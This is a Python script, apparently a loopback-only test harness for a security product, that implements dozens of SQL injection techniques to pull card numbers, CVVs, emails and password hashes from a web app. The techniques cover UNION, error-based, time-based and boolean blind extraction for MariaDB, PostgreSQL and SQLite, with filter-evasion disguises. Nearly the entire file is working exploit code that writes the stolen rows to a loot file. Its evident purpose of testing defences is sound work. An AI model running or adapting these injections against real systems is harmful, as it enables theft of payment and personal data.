#!/usr/bin/env python3
"""Attackers by hand: the same aims by many ways of saying them. One way = one function below; none knows what the product
can follow. Each writes loot.json = what it really received. Loopback only.
usage: hands.py WAY BASE OUTDIR PARAMS_JSON     PARAMS: db, table, columns, first, count, page, disguise, ip, ua"""
import sys, json, http.client, urllib.parse as up, re, random, string, time
way, base, od, P = sys.argv[1], sys.argv[2], sys.argv[3], json.loads(sys.argv[4])
u = up.urlsplit(base); assert u.hostname == "127.0.0.1"
con = http.client.HTTPConnection(u.hostname, u.port, timeout=120)
DB, T, COLS, FIRST, COUNT, PAGE = P["db"], P["table"], P["columns"], P["first"], P["count"], P.get("page", "items")
R = random.Random(P.get("seed", 1))
LOOT, N = [], 0
MY, PGS, LITE = DB == "mariadb", DB == "pg", DB == "sqlite"

def req(path, method="GET", body=None, headers={}):
    global N
    N += 1
    h = {"X-Forwarded-For": P["ip"], "User-Agent": P["ua"], "Accept": "*/*", **headers}
    for k in (0, 1):
        try:
            con.request(method, path, body=body, headers=h); r = con.getresponse(); return r.status, r.read().decode("utf-8", "replace")
        except (http.client.HTTPException, OSError):
            con.close()
            if k: raise

# ---------------------------------------------------------------- pages: value -> request, and what comes back
def quoted(sql): return (up.quote_plus if P.get("plus") else lambda s: up.quote(s, safe="(),*'!"))(sql)
def fetch(value):
    """sends a value to the page's parameter"""
    if PAGE == "cart": return req("/cart", headers={"Cookie": "cart=" + up.quote(value, safe="")})
    if PAGE == "area": return req("/area/" + up.quote(value, safe="") + ".html")
    if PAGE == "agent": return req("/agent", headers={"User-Agent": value})
    if PAGE == "login": return req("/login", "POST", "email=" + up.quote_plus(value) + "&phone=1", {"Content-Type": "application/x-www-form-urlencoded"})
    if PAGE == "api": return req("/api/search", "POST", json.dumps({"q": value, "page": 1}), {"Content-Type": "application/json"})
    path, name = {"items": ("/items", "id"), "item": ("/item", "id"), "list": ("/list", "price"), "search": ("/search", "q"), "track": ("/track", "no"), "news": ("/news", "id")}[PAGE]
    return req("%s?%s=%s" % (path, name, quoted(value)))
STRING = PAGE in ("search", "track", "login", "area", "agent", "api")
def tail(): return {"item": " -- -", "cart": ") -- -", "search": " -- -", "track": " -- -", "login": " -- -", "area": " -- -", "agent": " -- -", "api": " -- -"}.get(PAGE, "")
def inject(sql, hit=False):
    """the start of the value: a page with its own row, or without"""
    start = {"search": "USA-LTE" if hit else "zzz", "track": str(P.get("own", 5)) if hit else "0", "login": "x", "area": "USA-3G-01 レンタル" if hit else "z", "agent": "HAWAII" if hit else "zz", "api": "USA-LTE" if hit else "zz"}.get(PAGE, "5" if hit else "-1")
    return start + ("'" if STRING else ")" if PAGE == "cart" else "") + " " + sql + tail()
WIDTH = {"items": 4, "item": 4, "list": 3, "search": 3, "cart": 3, "area": 4, "agent": 3, "api": 3}
def cells(body):
    if PAGE == "item": return [re.findall(r"<(?:h2|p)>(.*?)</(?:h2|p)>", body, re.S)]
    if PAGE == "list": return [list(m) for m in re.findall(r'<p><a href="/item\?id=(.*?)">(.*?)</a> (.*?)円</p>', body, re.S)]
    if PAGE == "api": return [["" if c is None else str(c) for c in r] for r in json.loads(body)["rows"]] if body.startswith("{") else []
    return [re.findall(r"<td>(.*?)</td>", r, re.S) for r in re.findall(r"<tr>(.*?)</tr>", body, re.S)]

# ---------------------------------------------------------------- SQL in three dialects
lit = lambda s: "'" + s.replace("'", "''") + "'"
def hidden(s):
    """a text without quotes"""
    if MY: return R.choice(["0x" + s.encode().hex(), "CHAR(" + ",".join(str(b) for b in s.encode()) + ")"])
    return "(" + "||".join(("CHR(%d)" if PGS else "CHAR(%d)") % ord(c) for c in s) + ")"
def text(c): return ("CAST(%s AS CHAR)" if MY else "CAST(%s AS TEXT)") % c
def shown(c): return c if MY or LITE else text(c)
def concat(cols, sep):
    if MY: return "CONCAT_WS(%s,%s)" % (hidden(sep), ",".join(cols))
    return ("||%s||" % hidden(sep)).join(text(c) for c in cols)
def limit(n, k=1): return R.choice(["LIMIT %d OFFSET %d" % (k, n)] + ([] if PGS else ["LIMIT %d,%d" % (n, k)]) + (["OFFSET %d ROWS FETCH FIRST %d ROWS ONLY" % (n, k), "OFFSET %d LIMIT %d" % (n, k)] if PGS else []))
def hexed(e): return "HEX(%s)" % e if not PGS else "ENCODE(CONVERT_TO(%s,'UTF8'),'hex')" % e
def unhex(s): return bytes.fromhex(s).decode("utf-8", "replace")
def joined(e, sep, order=""):
    if MY: return "GROUP_CONCAT(%s%s SEPARATOR %s)" % (e, order, lit(sep))
    if PGS: return "STRING_AGG(%s,%s%s)" % (e, lit(sep), order)
    return "GROUP_CONCAT(%s,%s)" % (e, lit(sep))
def code(e): return ("ORD(%s)" if MY else "ASCII(%s)" if PGS else "UNICODE(%s)") % e
def sub(e, p, k=1): return R.choice(["SUBSTR(%s,%d,%d)"] + (["MID(%s,%d,%d)", "SUBSTRING(%s FROM %d FOR %d)"] if MY else ["SUBSTRING(%s FROM %d FOR %d)"] if PGS else [])) % (e, p, k)
def length(e): return ("CHAR_LENGTH(%s)" if not LITE else "LENGTH(%s)") % e
def pick(col, n): return "(SELECT %s FROM %s ORDER BY id %s)" % (shown(col) if not PGS else text(col), T, limit(n))

# ---------------------------------------------------------------- disguises of the whole value
def disguise(sql):
    d = P.get("disguise")
    words = r"\b(UNION|SELECT|FROM|WHERE|AND|OR|ORDER|BY|LIMIT|OFFSET|AS|ALL|CASE|WHEN|THEN|ELSE|END|IN|LIKE|BETWEEN|NOT|EXISTS)\b"
    parts = re.split(r"('(?:[^']|'')*')", sql)
    each = lambda f: "".join(p if i % 2 else f(p) for i, p in enumerate(parts))
    case = lambda s: re.sub(words, lambda m: "".join(R.choice([c.upper(), c.lower()]) for c in m.group(0)), s)
    if d == "case": return each(case)
    if d == "comments": return each(lambda s: re.sub(r" +(?!-( |$))", "/**/", case(s)) if not s.rstrip().endswith("-- -") else re.sub(r" ", "/**/", case(s[:s.rindex("-- -")])) + "-- -")
    if d == "blanks": return each(lambda s: re.sub(r" (?!-$)", lambda m: R.choice("\t\n\r\x0b\x0c" if MY else "\t\n\r"), s) if "-- -" not in s else re.sub(r" ", lambda m: R.choice("\t\n\r"), s[:s.rindex("-- -")]) + "-- -")
    if d == "version" and MY: return each(lambda s: re.sub(words, lambda m: R.choice(["/*!%s*/", "/*!50000%s*/", "/*!00000%s*/"]) % m.group(0), s))
    if d == "lines" and MY: return each(lambda s: re.sub(r" (?=SELECT|FROM|WHERE)", lambda m: "%23x\n".replace("%23", "#") if PAGE != "search" else " ", s))
    return sql

def rows(sql, cols):
    """the injected rows of a UNION over the given columns, put where the page shows text"""
    w = WIDTH[PAGE]; out = []
    text_at = [1, 2] if w == 4 else [1] if PAGE in ("list", "cart") else [0, 1]
    if PAGE in ("item",): text_at = [1, 2]
    return w, text_at

def union(exprs, rest, all_=True):
    """UNION of text expressions; gives the rows of the page that are the intruder's, cell by cell"""
    w = WIDTH[PAGE]
    spots = {"items": [1, 2], "item": [1, 2], "list": [1], "search": [0, 1], "cart": [1], "area": [1, 2], "agent": [0, 1], "api": [0, 1]}[PAGE]
    groups = [exprs] if len(exprs) <= len(spots) else [[concat(exprs, "~^~")]]
    e = groups[0]
    row = [{0: "7", 3: "8"}.get(i, "7") if PGS or LITE or MY else "7" for i in range(w)]
    for s, x in zip(spots, e): row[s] = shown(x) if not PGS or x.startswith(("CAST", "STRING_AGG", "ENCODE", "CHR", "XMLAGG")) else text(x)
    for s in spots[len(e):]: row[s] = "''" if PGS else "NULL"
    st, b = fetch(disguise(inject("UNION %sSELECT %s %s" % ("ALL " if all_ else "", ",".join(row), rest))))
    got = []
    for c in cells(b):
        if PAGE == "item": v = [c[0], c[1]] if len(c) > 1 else []
        else: v = [c[s] for s in spots] if len(c) == w else []
        if v: got.append(v[0].split("~^~") if len(exprs) > len(spots) else v[:len(e)])
    return got

def loot(cols, got, table=None, pks=None, tag="", **k):
    LOOT.append(dict(table=table or T, columns=cols, rows=[[str(v) for v in r] for r in got], tag=tag, **({"pks": pks} if pks else {}), **k))

# ---------------------------------------------------------------- ways: rows in the page
def by_range():
    """all rows between two keys at once"""
    loot(COLS, union(COLS, "FROM %s WHERE id BETWEEN %d AND %d" % (T, FIRST, FIRST + COUNT)))
def by_keyset():
    """row by row, each after the last one's key"""
    last, got = FIRST, []
    for _ in range(COUNT):
        r = union(["id"] + COLS, "FROM %s WHERE id>%d ORDER BY id LIMIT 1" % (T, last))
        if not r: break
        got.append(r[0]); last = int(r[0][0])
    loot(["id"] + COLS, got)
def by_smallest():
    """the smallest key above the last one, then the columns of that key one by one"""
    last, got = FIRST, []
    for _ in range(COUNT):
        r = union(["MIN(id)"], "FROM %s WHERE id>%d" % (T, last))
        if not r or not r[0][0]: break
        last = int(r[0][0]); row = [last]
        for c in COLS: row.append(union([c], "FROM %s WHERE id=%d" % (T, last))[0][0])
        got.append(row)
    loot(["id"] + COLS, got)
def by_exclusion():
    """one row that is not among those already known"""
    known, got = [0], []
    for _ in range(min(COUNT, 40)):
        r = union(["id"] + COLS, "FROM %s WHERE id NOT IN (%s) %sLIMIT 1" % (T, ",".join(map(str, known)), R.choice(["", "ORDER BY id "])))
        if not r: break
        got.append(r[0]); known.append(int(r[0][0]))
    loot(["id"] + COLS, got)
def by_offset_down():
    """from the end, row by row"""
    loot(["id"] + COLS, [r for n in range(COUNT) for r in union(["id"] + COLS, "FROM %s ORDER BY id DESC %s" % (T, limit(n)))])
def joined_windows():
    """windows of rows in one value"""
    got, w = [], max(3, COUNT // 4)
    for o in range(FIRST - FIRST % 7, FIRST - FIRST % 7 + COUNT, w):
        e = joined(concat(["id"] + COLS, ":~"), "|~")
        r = union([e], "FROM (SELECT * FROM %s ORDER BY id %s) t" % (T, limit(o, w)))
        got += [x.split(":~") for x in r[0][0].split("|~")] if r and r[0][0] else []
    loot(["id"] + COLS, got)
def joined_sorted():
    """all rows of a condition in one value, in the intruder's order, in hexadecimal"""
    e = concat(["id"] + COLS, ":~"); o = " ORDER BY id DESC" if not LITE else ""
    r = union([hexed(joined(e, "|~", o))], "FROM %s WHERE id<%d" % (T, FIRST + COUNT + (1000 if T == "cards" else 0)))
    loot(["id"] + COLS, [x.split(":~") for x in unhex(r[0][0]).split("|~")])
def json_whole():
    """the table as JSON"""
    if MY: r = union(["JSON_ARRAYAGG(CONCAT_WS(%s,id,%s))" % (hidden("~"), ",".join(COLS))], "FROM %s" % T)
    elif PGS: r = union(["CAST(JSON_AGG(%s) AS TEXT)" % concat(["id"] + COLS, "~")], "FROM %s" % T)
    else: r = union(["JSON_GROUP_ARRAY(%s)" % concat(["id"] + COLS, "~")], "FROM %s" % T)
    t = r[0][0]
    try: v = json.loads(t)
    except ValueError: v = json.loads(t[:t.rindex('","')] + '"]')
    loot(["id"] + COLS, [x.split("~") for x in v])
def xml_whole():
    """PostgreSQL: rows as XML"""
    e = "CAST(XMLAGG(XMLELEMENT(NAME r, %s)) AS TEXT)" % concat(["id"] + COLS, "~")
    r = union([e], "FROM (SELECT * FROM %s ORDER BY id %s) t" % (T, limit(FIRST % 50, COUNT)))
    loot(["id"] + COLS, [x.split("~") for x in re.findall(r"<r>(.*?)</r>", r[0][0], re.S)])
def array_whole():
    """PostgreSQL: rows as an array, joined"""
    r = union(["ARRAY_TO_STRING(ARRAY(SELECT %s FROM %s ORDER BY id %s),'|~')" % (concat(["id"] + COLS, ":~"), T, limit(FIRST % 50, COUNT))], "")
    loot(["id"] + COLS, [x.split(":~") for x in r[0][0].split("|~")])
def row_json():
    """PostgreSQL: each row as JSON"""
    got = union(["CAST(ROW_TO_JSON(t) AS TEXT)"], "FROM (SELECT id,%s FROM %s WHERE id>%d ORDER BY id LIMIT %d) t" % (",".join(COLS), T, FIRST, COUNT))
    loot(["id"] + COLS, [[str(v) for v in json.loads(r[0]).values()] for r in got])
def through_join():
    """two tables at once"""
    got = union(["c.id", "c.email", "k.id", "k.pan", "k.exp"], "FROM customers c JOIN cards k ON k.customer_id=c.id WHERE c.id BETWEEN %d AND %d" % (FIRST, FIRST + COUNT))
    loot(["id", "email"], [r[:2] for r in got], "customers", tag=".c"); loot(["id", "customer_id", "pan", "exp"], [[r[2], r[0]] + r[3:] for r in got], "cards", tag=".k")
    LOOT[1]["columns"], LOOT[1]["rows"] = ["id", "pan", "exp"], [[r[2], r[3], r[4]] for r in got]
def through_with():
    """a query with a name"""
    got = union(["id"] + COLS, "FROM (WITH v AS (SELECT * FROM %s WHERE id>%d) SELECT * FROM v ORDER BY id LIMIT %d) w" % (T, FIRST, COUNT))
    loot(["id"] + COLS, got)
def through_exists():
    """customers of whom another table knows something"""
    got = union(["c.id", "c.name"], "FROM customers c WHERE c.id<%d AND EXISTS (SELECT 1 FROM cards k WHERE k.customer_id=c.id AND k.brand='JCB')" % (FIRST + COUNT))
    loot(["id", "name"], got, "customers")
def nested():
    """queries in queries"""
    got = union(["id"] + COLS, "FROM (SELECT * FROM (SELECT * FROM %s ORDER BY id %s) a WHERE id>0) b" % (T, limit(FIRST % 60, COUNT)))
    loot(["id"] + COLS, got)
def without_names():
    """columns by their place, as the intruder does not know their names"""
    w = {"cards": 7, "customers": 8, "staff": 6, "orders": 9}[T]; names = list(zip(["id"] + COLS, [1 + {"cards": ["id", "customer_id", "holder", "pan", "exp", "cvv", "brand"], "customers": ["id", "name", "kana", "email", "phone", "zip", "address", "created_at"], "staff": ["id", "login", "name", "role", "pw_hash", "email"], "orders": ["id", "customer_id", "card_id", "router", "pickup_airport", "from_date", "to_date", "amount", "created_at"]}[T].index(c) for c in ["id"] + COLS]))
    inner = "SELECT " + ",".join("%d AS f%d" % (i, i) if not PGS else "NULL AS f%d" % i for i in range(1, w + 1)) + " UNION ALL SELECT * FROM " + T if not PGS else "SELECT * FROM %s" % T
    alias = "z" if not PGS else "z(%s)" % ",".join("f%d" % i for i in range(1, w + 1))
    got = union(["z.f%d" % i for _, i in names], "FROM (%s) %s %s" % (inner, alias, limit(1 + FIRST % 30, COUNT)))
    loot(["id"] + COLS, got)
def different_only():
    """different values only: nobody can say whose they are"""
    c = {"cards": ["brand", "exp"], "customers": ["zip"], "orders": ["router"], "staff": ["role"]}[T]
    loot(c, union(["DISTINCT " + c[0]] + c[1:] if len(c) == 1 else c, "FROM %s WHERE id<%d%s" % (T, FIRST + COUNT + (1000 if T == "cards" else 0), " GROUP BY " + ",".join(c) if len(c) > 1 else "")))
def some_of_them():
    """one column of some rows, another of the rest"""
    got = union(["id", "CASE WHEN brand='VISA' THEN pan ELSE cvv END", "brand"], "FROM cards WHERE id BETWEEN %d AND %d" % (1000 + FIRST, 1000 + FIRST + COUNT))
    loot(["id", "pan", "brand"], [r for r in got if r[2] == "VISA"], "cards", tag=".v"); loot(["id", "cvv", "brand"], [r for r in got if r[2] != "VISA"], "cards", tag=".o")
def page_widened():
    """no UNION at all: the page's own query over the intruder's condition gives nothing of worth; then a stray UNION that fails"""
    fetch(inject("OR 1=1")); fetch(inject("UNION SELECT pan FROM cards")); fetch(inject("UNION SELECT 1,2,3,4,5,6,7,8,9 FROM cards"))
    fetch(inject("UNION SELECT pan,cvv,nosuch,1 FROM cards")); fetch(inject("AND 1=2 UNION SELECT 1,2,3 FROM nosuchtable"))

# ---------------------------------------------------------------- ways: error messages
def error_of(sql):
    st, b = fetch(disguise(inject(sql, hit=True)))
    m = re.search(r"DB Error: (.*?)</p>", b, re.S)
    return m.group(1) if m else ""
def by_xpath():
    """MariaDB: 30 characters a message"""
    got = []
    for n in range(FIRST % 40, FIRST % 40 + COUNT):
        row = []
        for c in ["id"] + COLS:
            v, p = "", 1
            while True:
                e = "(SELECT %s FROM %s ORDER BY id %s)" % (sub(c, p, 30), T, limit(n))
                m = error_of("AND " + R.choice(["EXTRACTVALUE(1,CONCAT(0x7e,%s))", "UPDATEXML(1,CONCAT(0x7e,%s),1)"]) % e)
                m = re.search(r"'~(.*)'$", m, re.S); m = m.group(1) if m else ""
                v += m; p += 30
                if len(m) < 30: break
            row.append(v)
        got.append(row)
    loot(["id"] + COLS, got)
def by_cast():
    """PostgreSQL: text that is no number"""
    got = []
    for n in range(FIRST % 40, FIRST % 40 + COUNT):
        e = "(SELECT %s FROM %s ORDER BY id %s)" % (concat(["id"] + COLS, "~"), T, limit(n))
        m = error_of(R.choice(["AND 1=CAST(%s||'~' AS INT)", "AND (%s||'~')::int=1", "OR %s::bool"]) % e)
        m = re.search(r'"(\d+~.*)"', m, re.S)
        if m: got.append(m.group(1).split("~")[:len(COLS) + 1])
    loot(["id"] + COLS, got)
def by_cast_joined():
    """PostgreSQL: many rows in one message"""
    e = "(SELECT STRING_AGG(%s,'|' ORDER BY id) FROM %s WHERE id BETWEEN %d AND %d)" % (concat(["id"] + COLS, "~"), T, FIRST, FIRST + COUNT + (1000 if T == "cards" else 0))
    m = re.search(r'"(\d+~.*)"', error_of("AND 1=CAST(%s AS NUMERIC)" % e), re.S)
    loot(["id"] + COLS, [x.split("~") for x in m.group(1).split("|")] if m else [])
def by_duplicate():
    """MariaDB: a group key that collides with itself"""
    got = []
    for n in range(FIRST % 40, FIRST % 40 + COUNT):
        row = []
        for c in ["id"] + COLS:
            e = "(SELECT %s FROM %s ORDER BY id %s)" % (text(c), T, limit(n))
            for _ in range(5):
                m = error_of("AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(%s,0x7e,FLOOR(RAND(0)*2)) x FROM information_schema.tables GROUP BY x) y)" % e)
                m = re.search(r"entry '(.*?)~\d'", m, re.S)
                if m: break
            row.append(m.group(1) if m else "")
        got.append(row)
    loot(["id"] + COLS, got)

# ---------------------------------------------------------------- ways: one answer a question
def answer(cond):
    """whether a condition holds, by whatever the page does"""
    how = P.get("how", "and")
    if how == "time":
        s = P.get("sleep", .4)
        x = {"mariadb": "AND IF((%s),SLEEP(%s),0)", "pg": "AND 1=(SELECT 1 FROM (SELECT CASE WHEN (%s) THEN PG_SLEEP(%s) ELSE NULL END) q)"}[DB] % (cond, s)
        t = time.time(); fetch(disguise(inject(x, hit=True))); return time.time() - t > s * .75
    if how == "error":
        x = {"pg": "AND 1=(CASE WHEN (%s) THEN 1/(SELECT 0) ELSE 1 END)", "mariadb": "AND 1=IF((%s),(SELECT id FROM items),1)", "sqlite": "AND 1=(CASE WHEN (%s) THEN ABS(-9223372036854775808) ELSE 1 END)"}[DB] % cond
        st, b = fetch(disguise(inject(x, hit=True))); return st == 500 or "DB Error" in b
    x = {"and": "AND (%s)", "or": "OR (%s)", "not": "AND NOT (%s)", "case": "AND 1=(CASE WHEN (%s) THEN 1 ELSE 2 END)", "if": "AND IF((%s),1,0)", "select": "AND (SELECT (%s))", "xor": "AND (1=1) XOR (%s)"}[how]
    st, b = fetch(disguise(inject(x % cond, hit=how != "or")))
    yes = st == 302 if PAGE == "login" else ("承っております" in b if PAGE == "track" else st == 200 if PAGE == "item" else bool(re.search(r"<td>", b)))
    return not yes if how in ("not", "xor") else yes
DIGITS, HEXES = string.digits, "0123456789abcdef"
def charset(c): return {"pan": DIGITS, "cvv": DIGITS, "exp": DIGITS + "/", "phone": DIGITS + "-", "zip": DIGITS + "-", "pw_hash": HEXES, "login": string.ascii_lowercase + DIGITS, "amount": DIGITS, "customer_id": DIGITS}.get(c, string.ascii_lowercase + DIGITS + "@.-_'")
def highest(c): return 0x10FFFF if PGS or LITE else 0xF0BFBFBF
def decoded(n): return n.to_bytes(4, "big").lstrip(b"\0").decode("utf-8", "replace") if MY else chr(n)

def ask_above(e, p, c):
    """bisection: greater than"""
    lo, hi = 0, 127 if c != "name" else highest(c)
    if c not in charset_known(c) and not answer("%s<128" % code(sub(e, p))): hi = highest(c)
    while lo < hi:
        m = (lo + hi) // 2
        if answer("%s>%d" % (code(sub(e, p)), m)): lo = m + 1
        else: hi = m
    return decoded(lo) if lo else None
def charset_known(c): return ()
def halves(test):
    """bisection over the characters that may be there; '' where none is"""
    def ask(e, p, c):
        left = list(charset(c))
        if not answer(test(e, p, left)): return None
        while len(left) > 1:
            half = left[:len(left) // 2]
            left = half if answer(test(e, p, half)) else left[len(left) // 2:]
        return left[0]
    return ask
ask_in = halves(lambda e, p, l: "%s IN (%s)" % (code(sub(e, p)), ",".join(str(ord(x)) for x in l)))
ask_in_text = halves(lambda e, p, l: "%s IN (%s)" % (sub(e, p), ",".join(lit(x) for x in l)))
ask_instr = halves(lambda e, p, l: {"mariadb": "INSTR(%s,%s)>0", "pg": "STRPOS(%s,%s)>0 AND %s<>''" , "sqlite": "INSTR(%s,%s)>0 AND %s<>''"}[DB] % ((lit("".join(l)), sub(e, p)) + (() if MY else (sub(e, p),))) if not MY else "LOCATE(%s,%s) AND %s<>''" % (sub(e, p), lit("".join(l)), sub(e, p)))
ask_set = halves(lambda e, p, l: "FIND_IN_SET(%s,%s)" % (sub(e, p), lit(",".join(l))))
def ask_between(e, p, c):
    lo, hi = 0, 127
    while lo < hi:
        m = (lo + hi) // 2
        if answer("%s BETWEEN %d AND %d" % (code(sub(e, p)), m + 1, 127)): lo = m + 1
        else: hi = m
    return chr(lo) if lo else None
def ask_bits(e, p, c):
    """bit by bit, by shifting or by a mask; with or without a comparison"""
    n, kind = 0, R.choice(["(%s>>%d)&1", "(%s>>%d)&1=1" if MY else "((%s>>%d)&1)=1", "%s&%d"])
    if PGS and "=" not in kind: kind = "((%s>>%d)&1)=1"
    for b in range(7):
        n |= int(answer(kind % (code(sub(e, p)), 1 << b if kind == "%s&%d" else b))) << b
    return chr(n) if n else None
def ask_hex(e, p, c):
    """hexadecimal digits compared as text"""
    out = ""
    for k in (1, 2):
        lo, hi = 0, 15
        if k == 1 and not answer("%s>0" % length(sub(e, p))): return None
        while lo < hi:
            m = (lo + hi) // 2
            h = "SUBSTR(%s,%d,1)" % (hexed(sub(e, p)), k)
            if answer("%s>'%s'" % (h, (HEXES if PGS else HEXES.upper())[m])): lo = m + 1
            else: hi = m
        out += HEXES[lo]
    return chr(int(out, 16))

def prefix_ways(test):
    """values grown from the left, one character after another"""
    def read(e, c, cap=70):
        v = ""
        while len(v) < cap:
            for x in charset(c):
                if answer(test(e, v + x)): v += x; break
            else: break
        return v
    return read
like = lambda s: s.replace("\\", "\\\\").replace("%", "\\%").replace("_", "\\_")
read_like = prefix_ways(lambda e, v: "%s LIKE %s" % (e, lit(like(v) + "%")))
read_left = prefix_ways(lambda e, v: "LEFT(%s,%d)=%s" % (e, len(v), lit(v)) if not LITE else "SUBSTR(%s,1,%d)=%s" % (e, len(v), lit(v)))
read_regexp = prefix_ways(lambda e, v: ("%s REGEXP %s" if MY else "%s ~ %s") % (e, lit("^" + re.sub(r"([.\-/'])", r"[\1]", v))))
read_strcmp = prefix_ways(lambda e, v: "STRCMP(LEFT(%s,%d),%s)=0" % (e, len(v), lit(v)))
def read_position(e, c):
    """the last character of a growing beginning"""
    v = ""
    while True:
        for x in charset(c):
            if answer("RIGHT(LEFT(%s,%d),1)=%s AND %s>=%d" % (e, len(v) + 1, lit(x), length(e), len(v) + 1)): v += x; break
        else: return v
def by_characters(ask):
    def read(e, c):
        v = ""
        while len(v) < 70:
            x = ask(e, len(v) + 1, c)
            if x is None: break
            v += x
        return v
    return read
READERS = {"above": by_characters(ask_above), "between": by_characters(ask_between), "in": by_characters(ask_in), "intext": by_characters(ask_in_text), "instr": by_characters(ask_instr), "set": by_characters(ask_set),
           "bits": by_characters(ask_bits), "hex": by_characters(ask_hex), "like": read_like, "left": read_left, "regexp": read_regexp, "strcmp": read_strcmp, "position": read_position}
def blind():
    """values by place in an order"""
    for a in range(3): answer("%d=%d" % (a, a)); answer("%d=%d" % (a, a + 1))
    got = [[READERS[P["reader"]](pick(c, n), c) for c in COLS] for n in range(FIRST % 30, FIRST % 30 + COUNT)]
    loot(COLS, got)
def blind_joined():
    """several columns as one value"""
    e = lambda n: "(SELECT %s FROM %s ORDER BY id %s)" % (concat(COLS, "|"), T, limit(n))
    globals()["charset"] = lambda c: string.ascii_lowercase + DIGITS + "@.-_/|"
    loot(COLS, [READERS[P["reader"]](e(n), "all").split("|") for n in range(FIRST % 30, FIRST % 30 + COUNT)])
def blind_key():
    """values by their key: WHERE id=…"""
    pks = [FIRST % 30 + i + (1000 if T == "cards" else 0) + 1 for i in range(COUNT)]; got, have = [], []
    for k in pks:
        if not answer("EXISTS(SELECT 1 FROM %s WHERE id=%d)" % (T, k)): continue
        got.append([READERS[P["reader"]]("(SELECT %s FROM %s WHERE id=%d)" % (text(c) if PGS else c, T, k), c) for c in COLS]); have.append(k)
    loot(COLS, got, pks=have)
def rows_that(form):
    """the question stands in the subquery's own condition"""
    def run():
        pks = [FIRST % 30 + i + (1000 if T == "cards" else 0) + 1 for i in range(COUNT)]; got, have = [], []
        for k in pks:
            if not answer(form % (T, "id=%d" % k)): continue
            row = []
            for c in COLS:
                def ask(e, p, cc): 
                    lo, hi = 0, 127
                    while lo < hi:
                        m = (lo + hi) // 2
                        if answer(form % (T, "id=%d AND %s>%d" % (k, code(sub(text(c) if PGS else c, p)), m))): lo = m + 1
                        else: hi = m
                    return chr(lo) if lo else None
                row.append(by_characters(ask)("", c))
            got.append(row); have.append(k)
        loot(COLS, got, pks=have)
    return run
exists_rows = rows_that("EXISTS(SELECT 1 FROM %s WHERE %s)")
count_rows = rows_that("(SELECT COUNT(*) FROM %s WHERE %s)>0")
constant_rows = rows_that("(SELECT 'a' FROM %s WHERE %s)='a'")
member_rows = rows_that("5 IN (SELECT 5 FROM %s WHERE %s)")
def case_inside():
    """the question stands in what the subquery selects, one of CASE's branches"""
    for n in range(1):
        got = []
        for n in range(FIRST % 30, FIRST % 30 + COUNT):
            row = []
            for c in COLS:
                def ask(e, p, cc):
                    lo, hi = 0, 127
                    while lo < hi:
                        m = (lo + hi) // 2
                        if answer("(SELECT CASE WHEN %s>%d THEN 1 ELSE 0 END FROM %s ORDER BY id %s)=1" % (code(sub(text(c) if PGS else c, p)), m, T, limit(n))): lo = m + 1
                        else: hi = m
                    return chr(lo) if lo else None
                row.append(by_characters(ask)("", c))
            got.append(row)
    loot(COLS, got)
def test_inside():
    """as one published tool asks: the whole question is what the subquery selects, with the length in it"""
    got = []
    for n in range(FIRST % 30, FIRST % 30 + COUNT):
        row = []
        for c in COLS:
            x, v = (text(c) if PGS else c), ""
            while answer("(SELECT %s>%d FROM %s ORDER BY id %s)" % (length(x), len(v), T, limit(n))):
                lo, hi = 0, 127
                while lo < hi:
                    m = (lo + hi) // 2
                    if answer("(SELECT %s>%d AND %s<%d FROM %s ORDER BY id %s)" % (length(x), len(v), code(sub(x, len(v) + 1)), m + 1, T, limit(n))): hi = m
                    else: lo = m + 1
                v += chr(lo)
            row.append(v)
        got.append(row)
    loot(COLS, got)
def numbers():
    """whole numbers by bisection, no characters"""
    got = []
    for n in range(FIRST % 30, FIRST % 30 + COUNT):
        e, lo, hi = "(SELECT amount FROM orders ORDER BY id %s)" % limit(n), 0, 1 << 17
        while lo < hi:
            m = (lo + hi) // 2
            if answer("%s>%d" % (e, m)): lo = m + 1
            else: hi = m
        got.append([lo])
    loot(["amount"], got, "orders")
def arithmetic():
    """no condition at all: the answer is added to the number that the page is asked for"""
    got = []
    for n in range(FIRST % 30, FIRST % 30 + COUNT):
        row = []
        for c in COLS:
            def ask(e, p, cc):
                lo, hi = 0, 127
                while lo < hi:
                    m = (lo + hi) // 2
                    st, b = fetch(disguise("5-99*(CASE WHEN %s>%d THEN 1 ELSE 0 END)" % (code(sub(e, p)), m)) + tail())
                    if not (st == 200 and ("<td>" in b or "<h2>" in b)): lo = m + 1
                    else: hi = m
                return chr(lo) if lo else None
            row.append(by_characters(ask)(pick(c, n), c))
        got.append(row)
    loot(COLS, got)

globals()[way]()
json.dump(LOOT, open(od + "/loot.json", "w"), ensure_ascii=False)
print("requests", N)
